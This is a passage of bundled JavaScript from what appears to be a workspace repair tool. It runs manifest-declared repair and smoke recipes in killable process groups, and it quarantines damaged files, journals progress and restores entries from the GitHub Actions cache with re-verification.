/** PATH, HOME, LANG, TMPDIR and the named variables, taken from `from` when set there. */
function minimalEnv(from, names) {
    const env = {};
    for (const n of [...BASE_ENV_NAMES, ...names]) {
        const v = from[n];
        if (v !== undefined)
            env[n] = v;
    }
    env.PATH ??= '/usr/local/bin:/usr/bin:/bin';
    return env;
}
function killGroup(pid, signal) {
    try {
        process.kill(-pid, signal);
    }
    catch {
        // Already gone.
    }
}
function runRecipe(spec, hooks) {
    const started = performance.now();
    const [cmd, ...args] = spec.shell;
    const token = newRunToken();
    const unusable = [cmd, ...args, spec.command, spec.cwd, ...Object.entries(spec.env).flat()].find(v => v?.includes('\0'));
    // spawn() throws on a NUL byte; the validator refuses them at load, and this refuses the rest.
    if (unusable !== undefined)
        return Promise.resolve(notStarted(spec, 'a NUL byte in its command, shell, directory or environment'));
    return new Promise(resolve => {
        const child = (0,external_node_child_process_.spawn)(cmd ?? 'bash', [...args, spec.command], {
            cwd: spec.cwd,
            env: { ...spec.env, [RUN_TOKEN_VAR]: token },
            detached: true, // its own process group, so the whole group can be stopped
            stdio: ['ignore', 'pipe', 'pipe']
        });
        const kept = tailKeeper(KEEP_BYTES);
        let timedOut = false;
        let interrupted = false;
        let exited;
        const emit = (line) => {
            const clean = hooks.scrub(line);
            hooks.onLine?.(spec.id, clean);
            kept.add(clean);
        };
        // Each stream is split on its own: interleaved stderr must not cut a stdout line in two.
        const out = lineSplitter(emit, KEEP_BYTES);
        const err = lineSplitter(emit, KEEP_BYTES);
        child.stdout.on('data', out.push);
        child.stderr.on('data', err.push);
        const grace = spec.graceMs ?? DEFAULT_GRACE_MS;
        let killer;
        const stop = () => {
            if (child.pid === undefined || killer)
                return;
            killGroup(child.pid, 'SIGTERM');
            killer = setTimeout(() => killGroup(child.pid, 'SIGKILL'), grace);
        };
        const timer = setTimeout(() => {
            timedOut = true;
            stop();
        }, spec.timeoutMs);
        const onAbort = () => {
            interrupted = true;
            stop();
        };
        hooks.abort?.addEventListener('abort', onAbort, { once: true });
        if (hooks.abort?.aborted)
            onAbort();
        let finished = false;
        let pipeTimer;
        const finish = async () => {
            if (finished)
                return;
            finished = true;
            clearTimeout(timer);
            clearTimeout(pipeTimer);
            // Nothing of the group may outlive the recipe: what ignored SIGTERM gets SIGKILL before we
            // return, not on a timer that a finished swr would never fire.
            if (child.pid !== undefined)
                await reapGroup(child.pid, grace);
            if (killer)
                clearTimeout(killer);
            const escaped = await killTagged(token, Math.min(grace, 1000));
            if (escaped.length > 0)
                emit(`swr: stopped ${escaped.length} process(es) that left the recipe's process group: ${escaped
                    .map(p => `${p.pid} (${p.name})`)
                    .join(', ')}`);
            child.stdout.destroy();
            child.stderr.destroy();
            hooks.abort?.removeEventListener('abort', onAbort);
            out.end();
            err.end();
            resolve({
                id: spec.id,
                exitCode: exited?.code ?? null,
                signal: exited?.signal ?? null,
                timedOut,
                interrupted,
                ms: Math.round(performance.now() - started),
                output: kept.text(),
                truncated: kept.truncated(),
                escaped
            });
        };
        child.on('error', err => {
            emit(`cannot start ${cmd ?? 'bash'}: ${err.message}`);
            exited = { code: 127, signal: null };
            void finish();
        });
        child.on('exit', (code, signal) => {
            exited = { code, signal };
            // Background processes the recipe left behind go with it (and release the output pipes).
            if (child.pid !== undefined && groupAlive(child.pid))
                stop();
            // A process outside the group may hold the pipes open for ever: stop waiting for them.
            pipeTimer = setTimeout(() => void finish(), grace + 500);
        });
        child.on('close', () => void finish());
    });
}
function notStarted(spec, why) {
    const line = `cannot start: ${why}`;
    return {
        id: spec.id,
        exitCode: 127,
        signal: null,
        timedOut: false,
        interrupted: false,
        ms: 0,
        output: `${line}\n`,
        truncated: false,
        escaped: [],
        startError: why
    };
}
function groupAlive(pgid) {
    try {
        process.kill(-pgid, 0);
        return true;
    }
    catch {
        return false;
    }
}
/**
 * End the process group: SIGTERM, wait up to `grace` for it to go, then SIGKILL. (A group of
 * zombies that nobody reaps still answers signal 0; SIGKILL is then harmless.)
 */
async function reapGroup(pgid, grace) {
    if (!groupAlive(pgid))
        return;
    killGroup(pgid, 'SIGTERM');
    const deadline = Date.now() + grace;
    while (groupAlive(pgid) && Date.now() < deadline)
        await new Promise(r => setTimeout(r, 25));
    killGroup(pgid, 'SIGKILL');
}
/** One line for a person: "exit 0 in 1.2 s", "timed out after 30 s", ... */
function describeResult(r, timeoutMs) {
    return describeEnd(r, timeoutMs) + describeEscaped(r.escaped);
}
function describeEnd(r, timeoutMs) {
    const secs = (r.ms / 1000).toFixed(1);
    if (r.startError)
        return `not started: ${r.startError}`;
    if (r.interrupted)
        return `interrupted after ${secs} s`;
    if (r.timedOut)
        return `timed out after ${Math.round(timeoutMs / 1000)} s (process group killed)`;
    if (r.signal)
        return `killed by ${r.signal} after ${secs} s`;
    return `exit ${r.exitCode ?? '?'} in ${secs} s`;
}
function describeEscaped(escaped) {
    if (escaped.length === 0)
        return '';
    const names = [...new Set(escaped.map(p => p.name.replace(/[^\w.+-]/g, '?')))].slice(0, 5);
    return `; stopped ${escaped.length} process(es) that left its process group (${names.join(', ')})`;
}

;// CONCATENATED MODULE: ./src/core/smoke.ts



const SMOKE_TIMEOUT_S = 60;
async function runSmokes(m, findings, gate, callerEnv, abort) {
    if (!gate.allowed)
        return { findings, smoke: { allowed: false, reason: gate.reason, results: [] } };
    const entries = new Map(m.body.entries.map(e => [e.id, e]));
    const results = [];
    const out = [];
    for (const f of findings) {
        const e = entries.get(f.id);
        if (!e)
            throw new InternalError(`finding for unknown entry ${f.id}`);
        if (f.status !== 'OK' || !e.smoke || abort?.aborted) {
            out.push(f);
            continue;
        }
        const secrets = (e.secret_env ?? [])
            .map(n => callerEnv[n])
            .filter((v) => v !== undefined);
        const r = await runRecipe({
            id: e.id,
            command: e.smoke,
            shell: m.body.shell ?? ['bash', '-c'],
            cwd: m.workspace,
            env: minimalEnv(callerEnv, [...(e.env ?? []), ...(e.secret_env ?? [])]),
            timeoutMs: SMOKE_TIMEOUT_S * 1000
        }, { abort, scrub: makeScrubber(secrets) });
        const detail = `smoke ${describeResult(r, SMOKE_TIMEOUT_S * 1000)}`;
        const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
        results.push({
            id: e.id,
            outcome: passed ? 'passed' : 'failed',
            detail,
            ...(passed ? {} : { output: r.output.slice(-4096) })
        });
        out.push(passed ? f : { ...f, status: 'SMOKEFAIL', reason: 'smoke', detail });
    }
    return { findings: out, smoke: { allowed: true, reason: gate.reason, results } };
}

;// CONCATENATED MODULE: ./node_modules/yocto-queue/index.js
/*
How it works:
`this.#head` is an instance of `Node` which keeps track of its current value and nests another instance of `Node` that keeps the value that comes after it. When a value is provided to `.enqueue()`, the code needs to iterate through `this.#head`, going deeper and deeper to find the last value. However, iterating through every single item is slow. This problem is solved by saving a reference to the last value as `this.#tail` so that it can reference it to add a new value.
*/

class Node {
	value;
	next;

	constructor(value) {
		this.value = value;
	}
}

class Queue {
	#head;
	#tail;
	#size;

	constructor() {
		this.clear();
	}

	enqueue(value) {
		const node = new Node(value);

		if (this.#head) {
			this.#tail.next = node;
			this.#tail = node;
		} else {
			this.#head = node;
			this.#tail = node;
		}

		this.#size++;
	}

	dequeue() {
		const current = this.#head;
		if (!current) {
			return;
		}

		this.#head = this.#head.next;
		this.#size--;

		// Clean up tail reference when queue becomes empty
		if (!this.#head) {
			this.#tail = undefined;
		}

		return current.value;
	}

	peek() {
		if (!this.#head) {
			return;
		}

		return this.#head.value;

		// TODO: Node.js 18.
		// return this.#head?.value;
	}

	clear() {
		this.#head = undefined;
		this.#tail = undefined;
		this.#size = 0;
	}

	get size() {
		return this.#size;
	}

	* [Symbol.iterator]() {
		let current = this.#head;

		while (current) {
			yield current.value;
			current = current.next;
		}
	}

	* drain() {
		while (this.#head) {
			yield this.dequeue();
		}
	}
}

;// CONCATENATED MODULE: ./node_modules/p-limit/index.js


function pLimit(concurrency) {
	let rejectOnClear = false;

	if (typeof concurrency === 'object') {
		({concurrency, rejectOnClear = false} = concurrency);
	}

	validateConcurrency(concurrency);

	if (typeof rejectOnClear !== 'boolean') {
		throw new TypeError('Expected `rejectOnClear` to be a boolean');
	}

	const queue = new Queue();
	let activeCount = 0;

	const resumeNext = () => {
		// Process the next queued function if we're under the concurrency limit
		if (activeCount < concurrency && queue.size > 0) {
			activeCount++;
			queue.dequeue().run();
		}
	};

	const next = () => {
		activeCount--;
		resumeNext();
	};

	const run = async (function_, resolve, arguments_) => {
		// Execute the function and capture the result promise
		const result = (async () => function_(...arguments_))();

		// Resolve immediately with the promise (don't wait for completion)
		resolve(result);

		// Wait for the function to complete (success or failure)
		// We catch errors here to prevent unhandled rejections,
		// but the original promise rejection is preserved for the caller
		try {
			await result;
		} catch {}

		// Decrement active count and process next queued function
		next();
	};

	const enqueue = (function_, resolve, reject, arguments_) => {
		const queueItem = {reject};

		// Queue the internal resolve function instead of the run function
		// to preserve the asynchronous execution context.
		new Promise(internalResolve => { // eslint-disable-line promise/param-names
			queueItem.run = internalResolve;
			queue.enqueue(queueItem);
		}).then(run.bind(undefined, function_, resolve, arguments_)); // eslint-disable-line promise/prefer-await-to-then

		// Start processing immediately if we haven't reached the concurrency limit
		if (activeCount < concurrency) {
			resumeNext();
		}
	};

	const generator = (function_, ...arguments_) => new Promise((resolve, reject) => {
		enqueue(function_, resolve, reject, arguments_);
	});

	Object.defineProperties(generator, {
		activeCount: {
			get: () => activeCount,
		},
		pendingCount: {
			get: () => queue.size,
		},
		clearQueue: {
			value() {
				if (!rejectOnClear) {
					queue.clear();
					return;
				}

				const abortError = AbortSignal.abort().reason;

				while (queue.size > 0) {
					queue.dequeue().reject(abortError);
				}
			},
		},
		concurrency: {
			get: () => concurrency,

			set(newConcurrency) {
				validateConcurrency(newConcurrency);
				concurrency = newConcurrency;

				queueMicrotask(() => {
					// eslint-disable-next-line no-unmodified-loop-condition
					while (activeCount < concurrency && queue.size > 0) {
						resumeNext();
					}
				});
			},
		},
		map: {
			async value(iterable, function_) {
				const promises = [];

				try {
					Array.from(iterable, (value, index) => {
						const promise = generator(function_, value, index);
						promises.push(promise);
						return promise;
					});
				} catch (error) {
					// The iterable threw, so `Promise.all` never observes the already scheduled promises. Observe them here to avoid unhandled rejections.
					for (const promise of promises) {
						promise.catch(() => {}); // eslint-disable-line promise/prefer-await-to-then
					}

					throw error;
				}

				return Promise.all(promises);
			},
		},
	});

	return generator;
}

function limitFunction(function_, options) {
	const limit = pLimit(options);

	const limitedFunction = (...arguments_) => limit(() => function_(...arguments_));
	Object.defineProperty(limitedFunction, 'clearQueue', {
		value: limit.clearQueue,
	});

	return limitedFunction;
}

function validateConcurrency(concurrency) {
	if (!((Number.isInteger(concurrency) || concurrency === Number.POSITIVE_INFINITY) && concurrency > 0)) {
		throw new TypeError('Expected `concurrency` to be a number from 1 and up');
	}
}

;// CONCATENATED MODULE: ./src/core/quarantine.ts
/**
 * Quarantine: before a recipe runs, copy (never move) the damaged file or tree into the private
 * state directory, so the evidence survives and in-place repairs (`chmod +x`) still find their
 * file. Bounded in size; symlinks are copied as links, never followed, and the entry's path is
 * resolved without following a symlink in any component (a symlinked parent is refused, not
 * copied through). The folder name comes from a prefix and the id (ids cannot contain "/"), so no
 * id can place the copy elsewhere.
 *
 * The quarantine is pruned after every copy: copies older than the age limit go, then the oldest
 * others until the whole quarantine fits the size limit (the copy just made always stays).
 */





const QUARANTINE_MAX_BYTES = 256 * 1024 * 1024;
/** Defaults of the pruning limits (SWR_QUARANTINE_KEEP_DAYS, SWR_QUARANTINE_MAX_MB). */
const QUARANTINE_KEEP_DAYS = 7;
const QUARANTINE_TOTAL_BYTES = 1024 * 1024 * 1024;
function sizeOf(abs, limit) {
    const st = external_node_fs_default().lstatSync(abs);
    if (!st.isDirectory())
        return st.isFile() ? st.size : 0;
    let total = 0;
    for (const name of external_node_fs_default().readdirSync(abs)) {
        total += sizeOf(external_node_path_default().join(abs, name), limit - total);
        if (total > limit)
            return total;
    }
    return total;
}
function quarantine(workspace, stateDir, e, now, limits = {}) {
    const maxBytes = limits.maxBytes ?? QUARANTINE_MAX_BYTES;
    let abs;
    try {
        abs = resolveNoFollow(workspace, e.path);
    }
    catch (err) {
        if (err instanceof SymlinkRefusal)
            return { skipped: `not copied: ${err.message}` };
        throw err;
    }
    if (!external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false }))
        return { skipped: 'nothing on disk to keep' };
    const bytes = sizeOf(abs, maxBytes);
    if (bytes > maxBytes)
        return { skipped: `over the ${maxBytes}-byte quarantine limit` };
    const stamp = now.toISOString().replace(/[:.]/g, '-');
    const dir = ensurePrivateDir(stateDir, 'quarantine', `${stamp}-${(0,external_node_crypto_.randomBytes)(4).toString('hex')}`);
    const dest = external_node_path_default().join(dir, `entry-${e.id}`);
    external_node_fs_default().cpSync(abs, dest, {
        recursive: true,
        verbatimSymlinks: true,
        errorOnExist: true,
        force: false,
        preserveTimestamps: true
    });
    const pruned = pruneQuarantine(stateDir, now, limits, dir);
    return pruned.removed > 0 ? { copied: dest, bytes, pruned } : { copied: dest, bytes };
}
/**
 * Remove quarantined copies older than `keepMs`, then the oldest until the rest fit `totalBytes`;
 * `keep` (the copy just made) is never removed. Ages come from each copy's folder time.
 */
function pruneQuarantine(stateDir, now, limits = {}, keep) {
    const root = external_node_path_default().join(stateDir, 'quarantine');
    const keepMs = limits.keepMs ?? QUARANTINE_KEEP_DAYS * 86_400_000;
    const totalBytes = limits.totalBytes ?? QUARANTINE_TOTAL_BYTES;
    const copies = (external_node_fs_default().existsSync(root) ? external_node_fs_default().readdirSync(root) : [])
        .map(name => {
        const abs = external_node_path_default().join(root, name);
        const st = external_node_fs_default().lstatSync(abs);
        return { abs, isDir: st.isDirectory(), mtimeMs: st.mtimeMs };
    })
        .filter(c => c.isDir && c.abs !== keep)
        .map(c => ({ ...c, bytes: sizeOf(c.abs, Number.MAX_SAFE_INTEGER) }))
        .sort((a, b) => a.mtimeMs - b.mtimeMs);
    let total = copies.reduce((n, c) => n + c.bytes, keep ? sizeOf(keep, Number.MAX_SAFE_INTEGER) : 0);
    const out = { removed: 0, bytes: 0 };
    for (const c of copies) {
        if (now.getTime() - c.mtimeMs <= keepMs && total <= totalBytes)
            continue;
        external_node_fs_default().rmSync(c.abs, { recursive: true, force: true });
        total -= c.bytes;
        out.removed++;
        out.bytes += c.bytes;
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/cache-port.ts
/**
 * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
 * real @actions/cache client when the cache service is reachable. A restore is only a candidate:
 * the entry is re-verified against the signed manifest before it counts, so a partial, stale or
 * poisoned cache can never pass for the recorded state.
 */


/**
 * The key under which an entry's verified state is saved: its id plus the digest of its signed
 * expectations. Another state of the entry (or another manifest's entry) has another key.
 */
function stateKey(e) {
    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
    return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
}

;// CONCATENATED MODULE: ./src/core/repair.ts
/**
 * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
 * from its source (escrow, then recipe), each restored entry re-verified at once without the
 * cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
 * asked the gate first; this module refuses to run without an allowed decision.
 */










const DEFAULT_TIMEOUT_S = 1800;
const DEFAULT_SHELL = ['bash', '-c'];
async function runRepair(opts) {
    if (!opts.gate.allowed)
        throw new InternalError('runRepair called without an allowed gate decision');
    const entries = new Map(opts.manifest.body.entries.map(e => [e.id, e]));
    const results = new Map();
    const limit = pLimit(Math.max(1, opts.jobs ?? 1));
    for (const wave of opts.plan.waves) {
        await Promise.all(wave.map(step => limit(async () => {
            const entry = entries.get(step.id);
            if (!entry)
                throw new InternalError(`plan names unknown entry ${step.id}`);
            const r = await runStep(step, entry, results, opts);
            results.set(step.id, r);
            opts.journal?.append({
                id: r.id,
                outcome: r.outcome,
                at: (opts.now?.() ?? new Date()).toISOString()
            });
            opts.onStep?.(r);
        })));
    }
    return planSteps(opts.plan).map(s => results.get(s.id));
}
/** Quarantine is evidence-keeping: failing to copy must not stop the repair, only be reported. */
function safeQuarantine(entry, opts) {
    if (!opts.quarantine)
        return undefined;
    try {
        return quarantine(opts.manifest.workspace, opts.quarantine.stateDir, entry, opts.now?.() ?? new Date(), opts.quarantine);
    }
    catch (err) {
        return {
            skipped: `copy failed: ${err instanceof Error ? (err.code ?? err.message) : String(err)}`
        };
    }
}
/** Escrow first (local, no code), then the state saved for exactly these expectations, then the declared sources. */
function sourcesFor(entry, cache) {
    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
    if (cache)
        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], auto: true });
    for (const src of restoreSources(entry)) {
        out.push(typeof src === 'string'
            ? { kind: 'recipe', command: src }
            : {
                kind: 'cache',
                key: src.cache.key,
                restoreKeys: src.cache['restore-keys'] ?? [],
                auto: false
            });
    }
    return out;
}
async function runStep(step, entry, done, opts) {
    const base = { id: step.id, source: step.source };
    if (opts.abort?.aborted)
        return { ...base, outcome: 'interrupted', detail: 'not started: interrupted', attempts: [] };
    const failedDep = step.after.find(d => {
        const o = done.get(d)?.outcome;
        return o !== 'repaired' && o !== 'already-repaired';
    });
    if (failedDep)
        return { ...base, outcome: 'skipped', detail: `dependency failed: ${failedDep}`, attempts: [] };
    if (opts.alreadyRepaired?.has(step.id)) {
        const [after] = await opts.reverify([entry]);
        if (after?.status === 'OK')
            return {
                ...base,
                outcome: 'already-repaired',
                detail: 'repaired by the interrupted run',
                after,
                attempts: []
            };
    }
    const sources = sourcesFor(entry, opts.cache);
    if (sources.length === 0)
        return {
            ...base,
            outcome: 'unrepairable',
            detail: 'no restore source (recipe, cache or escrow)',
            attempts: []
        };
    const q = opts.quarantine ? safeQuarantine(entry, opts) : undefined;
    const attempts = [];
    let recipe;
    let after;
    let ranCleanly = false;
    for (const src of sources) {
        const tried = await trySource(src, entry, opts);
        if (tried.recipe)
            recipe = tried.recipe;
        if (tried.attempt.outcome === 'interrupted') {
            attempts.push(tried.attempt);
            return {
                ...base,
                outcome: 'interrupted',
                detail: tried.attempt.detail,
                attempts,
                ...(recipe ? { recipe } : {}),
                ...(q ? { quarantine: q } : {})
            };
        }
        if (tried.attempt.outcome === 'miss' ||
            tried.attempt.outcome === 'failed' ||
            tried.attempt.outcome === 'skipped') {
            attempts.push(tried.attempt);
            continue;
        }
        ;
        [after] = await opts.reverify([entry]);
        const healed = after?.status === 'OK';
        ranCleanly ||= src.kind === 'recipe';
        attempts.push({
            ...tried.attempt,
            outcome: healed ? 'healed' : 'not-healed',
            ...(healed
                ? {}
                : {
                    detail: `${tried.attempt.detail}, but still ${after?.status ?? 'damaged'}: ${after?.detail ?? ''}`
                })
        });
        if (healed) {
            return {
                id: step.id,
                source: src.kind,
                outcome: 'repaired',
                detail: tried.attempt.detail,
                attempts,
                ...(after ? { after } : {}),
                ...(recipe ? { recipe } : {}),
                ...(q ? { quarantine: q } : {})
            };
        }
    }
    const last = attempts[attempts.length - 1];
    return {
        ...base,
        outcome: ranCleanly ? 'still-damaged' : 'failed',
        detail: attempts.length > 1
            ? attempts.map(a => `${a.source}: ${a.detail}`).join('; ')
            : (last?.detail ?? ''),
        attempts,
        ...(after ? { after } : {}),
        ...(recipe ? { recipe } : {}),
        ...(q ? { quarantine: q } : {})
    };
}
async function trySource(src, entry, opts) {
    const abs = resolveEntryPath(opts.manifest.workspace, entry.path);
    switch (src.kind) {
        case 'escrow':
            if (entry.kind !== 'file')
                return {
                    attempt: { source: 'escrow', outcome: 'failed', detail: 'escrow on a non-file entry' }
                };
            try {
                restoreFromEscrow(opts.manifest.workspace, entry);
                return { attempt: { source: 'escrow', outcome: 'healed', detail: 'restored from escrow' } };
            }
            catch (err) {
                if (!(err instanceof SwrError) && !(err instanceof Error && 'code' in err))
                    throw err;
                return {
                    attempt: {
                        source: 'escrow',
                        outcome: 'failed',
                        detail: err instanceof Error ? err.message : String(err)
                    }
                };
            }
        case 'cache': {
            if (!opts.cache)
                return {
                    attempt: {
                        source: 'cache',
                        outcome: 'skipped',
                        key: src.key,
                        detail: `cache ${src.key} skipped: no Actions cache service here`
                    }
                };
            const hit = await opts.cache.restore(abs, src.key, src.restoreKeys);
            if (!hit)
                return {
                    attempt: {
                        source: 'cache',
                        outcome: 'miss',
                        key: src.key,
                        detail: `cache miss for ${src.key}${src.auto ? ' (saved state)' : ''}`
                    }
                };
            const how = hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`;
            return {
                attempt: {
                    source: 'cache',
                    outcome: 'healed',
                    key: src.key,
                    matchedKey: hit.matchedKey,
                    exact: hit.exact,
                    detail: `cache ${how}${src.auto ? ' (saved state)' : ''}`
                }
            };
        }
        case 'recipe': {
            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? DEFAULT_TIMEOUT_S;
            const secrets = (entry.secret_env ?? [])
                .map(n => opts.callerEnv[n])
                .filter((v) => v !== undefined);
            const result = await runRecipe({
                id: entry.id,
                command: src.command,
                shell: opts.manifest.body.shell ?? DEFAULT_SHELL,
                cwd: opts.manifest.workspace,
                env: minimalEnv(opts.callerEnv, [...(entry.env ?? []), ...(entry.secret_env ?? [])]),
                timeoutMs: timeoutS * 1000
            }, { abort: opts.abort, onLine: opts.onLine, scrub: makeScrubber(secrets) });
            const { id: _id, ...recipe } = result;
            const how = `recipe ${describeResult(result, timeoutS * 1000)}`;
            if (result.interrupted)
                return { recipe, attempt: { source: 'recipe', outcome: 'interrupted', detail: how } };
            if (result.timedOut || result.exitCode !== 0)
                return { recipe, attempt: { source: 'recipe', outcome: 'failed', detail: how } };
            return { recipe, attempt: { source: 'recipe', outcome: 'healed', detail: how } };
        }
    }
}

;// CONCATENATED MODULE: ./src/core/state/journal.ts
/**
 * The restore journal: an append-only record of what an interrupted restore already repaired, so
 * `--resume` can continue. One JSON line per event, each appended with a single write and fsynced.
 * A journal written for another manifest digest or workspace is ignored.
 */





function journalPath(stateDir, workspace) {
    const key = (0,external_node_crypto_.createHash)('sha256').update(external_node_path_default().resolve(workspace)).digest('hex').slice(0, 32);
    return external_node_path_default().join(stateDir, 'journal', `${key}.jsonl`);
}
/** Ids an interrupted restore of this digest and workspace already repaired and re-verified. */
function resumable(stateDir, workspace, digest) {
    let lines;
    try {
        lines = external_node_fs_default().readFileSync(journalPath(stateDir, workspace), 'utf8').split('\n').filter(Boolean);
    }
    catch {
        return new Set();
    }
    const out = new Set();
    try {
        const head = JSON.parse(lines[0] ?? '');
        if (head.v !== 1 || head.digest !== digest || head.workspace !== external_node_path_default().resolve(workspace))
            return out;
        for (const line of lines.slice(1)) {
            const e = JSON.parse(line);
            if (e.id === '*' && e.outcome === 'finished')
                return new Set();
            if (e.outcome === 'repaired')
                out.add(e.id);
        }
    }
    catch {
        // A torn last line from a killed run: keep what was read before it.
    }
    return out;
}
function openJournal(stateDir, workspace, digest, now, resume) {
    ensurePrivateDir(stateDir, 'journal');
    const file = journalPath(stateDir, workspace);
    if (!resume || resumable(stateDir, workspace, digest).size === 0) {
        const head = {
            v: 1,
            digest,
            workspace: external_node_path_default().resolve(workspace),
            started: now.toISOString()
        };
        writeFileAtomic(file, JSON.stringify(head) + '\n', { mode: 0o600 });
    }
    const append = (e) => appendRecord(file, JSON.stringify(e) + '\n');
    return {
        file,
        append,
        close: () => append({ id: '*', outcome: 'finished', at: new Date().toISOString() })
    };
}

;// CONCATENATED MODULE: ./src/core/doctor.ts
/**
 * restore and doctor as one engine call, shared by the CLI and the Action:
 *
 *   check -> plan -> gate -> run the plan (journal, quarantine) -> re-verify -> report
 *
 * Doctor re-checks the whole selection uncached at the end; restore re-verifies what it ran. The
 * caller hears each phase through hooks (to print, group logs, or stay silent) and gets a report
 * that says what happened and which exit code that means.
 */










async function repairManifest(m, opts) {
    const hooks = opts.hooks ?? {};
    const check = (cache) => checkManifest(m, {
        only: opts.only,
        cache,
        stateDir: opts.stateDir,
        version: opts.version,
        command: opts.mode,
        jobs: opts.jobs
    });
    const before = await check(opts.cache !== false);
    const plan = planRepair(m.body.entries, before.results);
    hooks.onCheck?.(before, plan);
    const finish = (outcome, code, steps, final, gate) => {
        const repair = {
            mode: opts.mode,
            dry_run: opts.dryRun === true,
            before: {
                summary: before.summary,
                signature: before.diagnosis.signature,
                cause: before.diagnosis.cause
            },
            plan: plan.waves,
            ...(gate
                ? { gate: { allowed: gate.allowed, reason: gate.reason, warnings: gate.warnings } }
                : {}),
            steps,
            write_back: writeBack(m, steps),
            outcome,
            exit_code: code
        };
        return { ...final, repair };
    };
    if (before.verdict === 'healthy')
        return finish('healthy', EXIT.HEALTHY, [], before);
    if (opts.dryRun)
        return finish('damaged', EXIT.DAMAGED, [], before);
    const gate = await decide(gateInput(m), opts.policy);
    hooks.onGate?.(gate);
    if (!gate.allowed)
        return finish('refused', EXIT.UNREPAIRABLE, [], before, gate);
    if (opts.rememberAccepted)
        remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
    const already = opts.resume ? resumable(opts.stateDir, m.workspace, m.digest) : new Set();
    if (opts.resume)
        hooks.onResume?.(already.size);
    const journal = openJournal(opts.stateDir, m.workspace, m.digest, new Date(), opts.resume === true);
    const steps = await runRepair({
        manifest: m,
        plan,
        gate,
        callerEnv: opts.callerEnv,
        reverify: reverifier(m, opts.stateDir, opts.jobs),
        jobs: opts.jobs ?? 1,
        timeoutS: opts.timeoutS,
        quarantine: opts.quarantine ? { stateDir: opts.stateDir, ...opts.quarantineLimits } : undefined,
        alreadyRepaired: already,
        journal,
        abort: opts.abort,
        cache: opts.cacheClient,
        onLine: hooks.onLine,
        onStep: hooks.onStep
    });
    const interrupted = steps.some(s => s.outcome === 'interrupted') || opts.abort?.aborted === true;
    if (!interrupted)
        journal.close();
    const final = opts.mode === 'doctor' && !interrupted ? await check(false) : merge(before, m, steps, opts);
    hooks.onFinal?.(final);
    const [outcome, code] = verdict(final, steps, interrupted);
    return finish(outcome, code, steps, final, gate);
}
/**
 * Entries a recipe healed and re-verified: their state is worth saving to the cache under the
 * key of their signed expectations, so the next run restores it without running code.
 */
function writeBack(m, steps) {
    const entries = new Map(m.body.entries.map(e => [e.id, e]));
    return steps.flatMap(s => {
        const e = entries.get(s.id);
        return s.outcome === 'repaired' && s.source === 'recipe' && e
            ? [{ id: s.id, key: stateKey(e) }]
            : [];
    });
}
/** Which entries have a cache saved for exactly their expected state (no download). */
async function lookupSavedStates(m, entries, cache) {
    const out = [];
    for (const e of entries) {
        const key = stateKey(e);
        out.push({
            id: e.id,
            key,
            available: await cache.lookup(resolveEntryPath(m.workspace, e.path), key)
        });
    }
    return out;
}
/** The report of the final state when only the restored entries were re-verified. */
function merge(before, m, steps, opts) {
    const after = new Map(steps.flatMap(s => (s.after ? [[s.id, s.after]] : [])));
    const skipped = new Map(steps.filter(s => s.outcome === 'skipped').map(s => [s.id, s.detail]));
    const findings = before.results.map(f => {
        const a = after.get(f.id);
        if (a)
            return a;
        const why = skipped.get(f.id);
        return why ? { ...f, status: 'SKIPPED', reason: 'dependency', detail: why } : f;
    });
    return buildReport({
        command: opts.mode,
        version: opts.version,
        manifest: m,
        findings,
        options: before.options,
        started: new Date(before.timing.started),
        ms: Date.now() - Date.parse(before.timing.started)
    });
}
function verdict(final, steps, interrupted) {
    if (interrupted)
        return ['interrupted', EXIT.INTERRUPTED];
    if (final.verdict === 'healthy')
        return ['repaired', EXIT.HEALTHY];
    if (steps.some(s => s.outcome === 'still-damaged'))
        return ['still-damaged', EXIT.STILL_DAMAGED];
    return ['unrepairable', EXIT.UNREPAIRABLE];
}

;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
/**
 * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
 * runner. @actions/cache is loaded only when a cache source is actually tried. Its result is never
 * trusted: the engine re-verifies every restored entry against the signed manifest.
 */

/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
function cacheServiceAvailable(env) {
    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
}
/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
function cacheReadOnly(env) {
    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
}
/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
function withBefore(client, before) {
    return {
        restore: (abs, key, restoreKeys) => (before(), client.restore(abs, key, restoreKeys)),
        lookup: (abs, key) => (before(), client.lookup(abs, key)),
        save: (abs, key) => (before(), client.save(abs, key))
    };
}
let actions_cache_loaded;
async function client() {
    actions_cache_loaded ??= await __nccwpck_require__.e(/* import() */ 329).then(__nccwpck_require__.bind(__nccwpck_require__, 5329));
    return actions_cache_loaded;
}
function actionsCacheClient(opts) {
    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
    const spell = (abs) => external_node_path_default().resolve(abs);
    const quietly = async (fn) => {
        if (!opts.logToStderr)
            return fn();
        const write = process.stdout.write.bind(process.stdout);
        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
        const debug = opts.env.RUNNER_DEBUG === '1';
        process.stdout.write = ((chunk) => {
            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
            const kept = debug
                ? text
                : text
                    .split(/(?<=\n)/)
                    .filter(l => !l.startsWith('::debug::'))
                    .join('');
            return kept ? process.stderr.write(kept) : true;
        });
        try {
            return await fn();
        }
        finally {
            process.stdout.write = write;
        }
    };
